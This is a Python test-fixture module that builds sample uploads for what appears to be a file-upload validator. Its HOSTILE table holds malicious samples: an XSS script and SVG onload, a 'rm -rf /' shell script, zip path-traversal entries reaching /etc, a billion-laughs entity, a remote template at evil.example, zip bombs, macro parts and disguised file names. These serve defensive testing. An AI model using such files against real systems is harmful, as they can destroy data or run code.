"""Small files made by hand: honest ones, and those that somebody would send to harm the reader."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
CSV = b"commune;habitants\nOrvelle;8 412\n"
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ODT = "application/vnd.oasis.opendocument.text"


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int = 1, height: int = 1) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def jpeg(width: int = 1, height: int = 1) -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return b"".join(
        (b"\xff\xd8\xff\xe0\x00\x04ab", b"\xff\xc0", struct.pack(">H", len(frame) + 2), frame,
         b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00", b"\x12\x34", b"\xff\xd9")
    )  # fmt: skip


def webp() -> bytes:
    return b"RIFF" + struct.pack("<I", 16) + b"WEBPVP8L" + b"\0" * 8


def archive(parts: dict[str, bytes], *, stored: tuple[str, ...] = ()) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as opened:
        for name, content in parts.items():
            opened.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return file.getvalue()


def office(media_type: str = WORD, **parts: bytes) -> bytes:
    types = TYPES.format(f'<Override PartName="/main.xml" ContentType="{media_type}"/>')
    return archive({"[Content_Types].xml": types.encode(), "word/document.xml": b"<w/>", **parts})


def open_document(media_type: str = ODT, **parts: bytes) -> bytes:
    content = {"mimetype": media_type.encode(), "content.xml": b"<office/>", **parts}
    return archive(content, stored=("mimetype",))


def with_part(name: str, content: bytes = b"x") -> bytes:
    return office(**{name: content})


def locked(content: bytes) -> bytes:
    """Set the flag of encryption on every part of an archive."""
    changed = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = changed.find(mark)
        while start >= 0:
            changed[start + offset] |= 1
            start = changed.find(mark, start + 4)
    return bytes(changed)


def lying(content: bytes, name: bytes, claimed: int = 10) -> bytes:
    """Say in the table of contents that a part is small when it is not."""
    changed = bytearray(content)
    start = changed.find(b"PK\x01\x02")
    while start >= 0:
        length = struct.unpack("<H", changed[start + 28 : start + 30])[0]
        if bytes(changed[start + 46 : start + 46 + length]) == name:
            changed[start + 24 : start + 28] = struct.pack("<I", claimed)
        start = changed.find(b"PK\x01\x02", start + 4)
    return bytes(changed)


@cache
def bomb(megabytes: int) -> bytes:
    """A document that fills the disk once opened."""
    return office(**{"word/media/image1.bin": b"\0" * (megabytes * 1024 * 1024)})


BILLION_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
REMOTE_TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512

HONEST = {
    "etude.pdf": ("pdf", PDF),
    "plan.PNG": ("png", png()),
    "photo.jpg": ("jpeg", jpeg()),
    "photo.jpeg": ("jpeg", jpeg()),
    "dessin.webp": ("webp", webp()),
    "note.odt": ("odt", open_document()),
    "tableau.ods": ("ods", open_document("application/vnd.oasis.opendocument.spreadsheet")),
    "note.docx": ("docx", office()),
    "avec une image.docx": ("docx", with_part("word/media/image1.svg", SVG)),
    "tableau.xlsx": ("xlsx", office(SHEET)),
    "chiffres.csv": ("csv", CSV),
    "avec marque.csv": ("csv", b"\xef\xbb\xbf" + CSV),
    "a < b.txt": ("txt", "Si a < b, alors…".encode()),
}
# What is sent, under which name, and a word of the reason given. What takes a while to make is made when it is sent.
HOSTILE = {
    "empty": ("rien.pdf", b"", "vide"),
    "a page": ("page.html", HTML, "accepté"),
    "a page called text": ("page.txt", HTML, "accepté"),
    "a page after spaces": ("page.csv", b"\xef\xbb\xbf \n\t<HTML><body>", "accepté"),
    "a drawing": ("dessin.svg", SVG, "accepté"),
    "a drawing called text": ("dessin.txt", SVG, "accepté"),
    "xml called text": ("page.txt", b"<?xml version='1.0'?><x/>", "accepté"),
    "a page called pdf": ("etude.pdf", HTML, "accepté"),
    "a program": ("outil.exe", b"MZ" + b"\0" * 64, "accepté"),
    "a program called text": ("outil.txt", b"MZ\0\0", "accepté"),
    "a script called text": ("outil.txt", b"#!/bin/sh\nrm -rf /", "accepté"),
    "latin text": ("notes.txt", "Église".encode("latin-1"), "UTF-8"),
    "wide text": ("notes.txt", "Église".encode("utf-16"), "UTF-8"),
    "a gif": ("image.gif", b"GIF89a" + b"\0" * 32, "accepté"),
    "an image called pdf": ("etude.pdf", png(), "finir par"),
    "a pdf called image": ("photo.png", PDF, "finir par"),
    "a document called sheet": ("tableau.xlsx", office(), "finir par"),
    "two extensions": ("etude.pdf.exe", PDF, "finir par"),
    "no extension": ("etude", PDF, "finir par"),
    "extension hidden by direction": ("etude\u202efdp.exe", PDF, "finir par"),
    "pdf then archive": ("etude.pdf", PDF + archive({"x.html": HTML}), "après sa fin"),
    "pdf then page": ("etude.pdf", PDF + HTML, "après sa fin"),
    "pdf cut short": ("etude.pdf", PDF[:40], "incomplet"),
    "page then pdf": ("etude.pdf", HTML + PDF, "accepté"),
    "pdf locked": ("etude.pdf", PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R"), "mot de passe"),
    "pdf locked in place": ("etude.pdf", PDF.replace(b"/Root", b"/Encrypt<</V 1>>/Root"), "mot de passe"),
    "pdf that acts": ("etude.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript >>"), "programme"),
    "pdf that launches": ("etude.pdf", PDF.replace(b"/Catalog", b"/Catalog /AA << /S /Launch >>"), "programme"),
    "image then page": ("plan.png", png() + HTML, "après sa fin"),
    "image then archive": ("photo.jpg", jpeg() + archive({"a": b"b"}), "après sa fin"),
    "image cut short": ("plan.png", png()[:40], "incomplète"),
    "photo cut short": ("photo.jpg", jpeg()[:12], "incomplète"),
    "webp with a tail": ("dessin.webp", webp() + HTML, "après sa fin"),
    "immense image": ("plan.png", png(60_000, 60_000), "points"),
    "immense photo": ("photo.jpg", jpeg(65_000, 65_000), "points"),
    "plain archive": ("tout.zip", archive({"a.txt": b"a"}), "accepté"),
    "archive called document": ("note.docx", archive({"a.txt": b"a"}), "accepté"),
    "java archive called document": ("note.docx", archive({"META-INF/MANIFEST.MF": b"Main-Class: X"}), "accepté"),
    "macros": ("note.docx", with_part("word/vbaProject.bin"), "macros"),
    "macros declared": ("note.docx", office("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "macros of a sheet": ("tableau.xlsx", office(SHEET, **{"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
    "macros of an open document": ("note.odt", open_document(**{"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
    "scripts of an open document": ("note.odt", open_document(**{"Scripts/python/x.py": b"x"}), "macros"),
    "control": ("note.docx", with_part("word/activeX/activeX1.bin"), "macros"),
    "program inside": ("note.docx", with_part("word/embeddings/outil.exe"), "macros"),
    "remote template": ("note.docx", with_part("word/_rels/settings.xml.rels", REMOTE_TEMPLATE), "ailleurs"),
    "parent folder": ("note.docx", with_part("../../etc/cron.d/x"), "abîmé"),
    "absolute path": ("note.docx", with_part("/etc/passwd"), "abîmé"),
    "windows path": ("note.docx", with_part("word\\..\\..\\x"), "abîmé"),
    "drive": ("note.docx", with_part("C:/x"), "abîmé"),
    "entities": ("note.docx", with_part("word/styles.xml", BILLION_LAUGHS), "abîmé"),
    "entities in the types": ("note.docx", archive({"[Content_Types].xml": BILLION_LAUGHS}), "abîmé"),
    "page before the archive": ("note.docx", HTML + office(), "accepté"),
    "archive before the archive": ("note.docx", archive({"x": HTML}) + office(), "abîmé"),
    "page after the archive": ("note.docx", office() + HTML, "abîmé"),
    "locked parts": ("note.docx", locked(office()), "mot de passe"),
    "locked open document": ("note.odt", open_document(**{"META-INF/manifest.xml": b"<m:encryption-data/>"}), "passe"),
    "old or locked word": ("note.docx", OLD_WORD, "mot de passe"),
    "bomb": ("note.docx", lambda: bomb(220), "200 Mo"),
    "bomb that lies": ("note.docx", lambda: lying(bomb(220), b"word/media/image1.bin"), "abîmé"),
    "countless parts": ("note.docx", lambda: archive({f"{n}": b"" for n in range(5_001)}), "200 Mo"),
    "archive cut short": ("note.docx", office()[:200], "abîmé"),
    "type said late": ("note.odt", archive({"content.xml": b"<x/>", "mimetype": ODT.encode()}), "abîmé"),
}  # fmt: skip


def hostile(what: str) -> tuple[str, bytes, str]:
    name, content, reason = HOSTILE[what]
    return name, content() if callable(content) else content, reason
